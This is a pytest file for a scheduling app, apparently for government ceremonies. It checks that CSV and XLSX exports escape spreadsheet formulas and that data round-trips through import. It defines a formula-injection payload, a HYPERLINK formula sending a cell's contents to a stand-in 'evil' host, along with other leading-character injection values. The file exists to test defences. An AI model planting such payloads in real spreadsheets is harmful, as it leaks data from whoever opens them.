"""Import and export against hostile or damaged input: formulas, control
characters, broken workbooks, ids out of range, concurrent writes; and what the
printed sheet and the export say about who is (not) coming."""
import csv
import io
import re
import zipfile

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import select

from scheduler.extensions import db
from scheduler.planning.models import Attendee, Site
from scheduler.transfer.formulas import escape, unescape

from .conftest import post_form
from .test_transfer import base, count, csv_bytes, last_job, upload, write

EVIL = '=HYPERLINK("http://evil/?"&F3,"Xem")'


@pytest.fixture
def ceremony(factory):
    ceremony = factory.ceremony()
    factory.site(ceremony, code="BCA", is_host=True, name="Điểm cầu Bộ Công an")
    factory.site(ceremony, code="BNI", name="Điểm cầu Bắc Ninh")
    return ceremony


def site_id(app, ceremony, code: str) -> int:
    with app.app_context():
        return db.session.scalar(select(Site.id).where(Site.ceremony_id == ceremony.id, Site.code == code))


def attendees_of(app, ceremony) -> list[Attendee]:
    with app.app_context():
        return db.session.scalars(select(Attendee).where(Attendee.ceremony_id == ceremony.id)
                                  .order_by(Attendee.full_name)).all()


@pytest.mark.parametrize("value", ["=1+1", "+84 912 000 111", "-5", "@SUM(A1)", "\tx", "\rx", "'=x",
                                   "''+x", "'abc", "abc", "", "'"])
def test_formula_escape_round_trips(value):
    escaped = escape(value)
    assert not escaped.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert unescape(escaped) == value


def hostile_source(factory):
    source = factory.ceremony(title="Nguồn")
    site = factory.site(source, code="BNI")
    factory.attendee(source, site, full_name=EVIL, phone="+84 912 000 111", unit="-Phòng 1",
                     position="@Trưởng phòng", rank="'=không phải công thức")
    return source


def test_csv_export_quotes_formulas_and_imports_back_the_same(app, client, factory, ceremony):
    source = hostile_source(factory)
    exported = client.get(f"{base(source)}/export/attendees.csv").data
    rows = list(csv.reader(io.StringIO(exported.decode("utf-8-sig"))))
    assert rows[1][:7] == ["BNI", "'" + EVIL, "''=không phải công thức", "'@Trưởng phòng", "'-Phòng 1", "",
                           "'+84 912 000 111"]
    upload(client, ceremony, exported, filename="export.csv")
    assert last_job(app).status == "ready", last_job(app).report["errors"]
    write(client, ceremony, last_job(app))
    [person] = attendees_of(app, ceremony)
    assert (person.full_name, person.rank, person.position, person.unit, person.phone) == (
        EVIL, "'=không phải công thức", "@Trưởng phòng", "-Phòng 1", "+84 912 000 111")


def test_xlsx_export_writes_formulas_as_text_and_imports_back_the_same(app, client, factory, ceremony):
    source = hostile_source(factory)
    exported = client.get(f"{base(source)}/export/attendees.xlsx").data
    sheet_xml = zipfile.ZipFile(io.BytesIO(exported)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    row = load_workbook(io.BytesIO(exported)).active[2]
    assert (row[1].value, row[1].data_type, row[1].quotePrefix) == (EVIL, "s", True)
    assert row[6].value == "+84 912 000 111"
    upload(client, ceremony, exported, filename="export.xlsx")
    assert last_job(app).status == "ready", last_job(app).report["errors"]
    write(client, ceremony, last_job(app))
    [person] = attendees_of(app, ceremony)
    assert (person.full_name, person.rank, person.unit, person.phone) == (
        EVIL, "'=không phải công thức", "-Phòng 1", "+84 912 000 111")
